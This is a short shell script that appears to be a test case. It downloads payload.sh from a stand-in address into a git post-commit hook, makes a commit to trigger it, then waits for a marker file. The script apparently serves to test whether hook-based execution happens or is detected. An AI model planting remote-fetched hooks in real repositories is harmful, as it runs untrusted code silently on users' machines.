#!/bin/sh
. /opt/case/case.sh

git init -q /srv/app/r
cd /srv/app/r
git config user.email x@x && git config user.name x
curl -s http://203.0.113.10/payload.sh -o .git/hooks/post-commit
chmod +x .git/hooks/post-commit
echo 1 >f && git add f && git commit -qm x
wait_for /tmp/reached
took_place
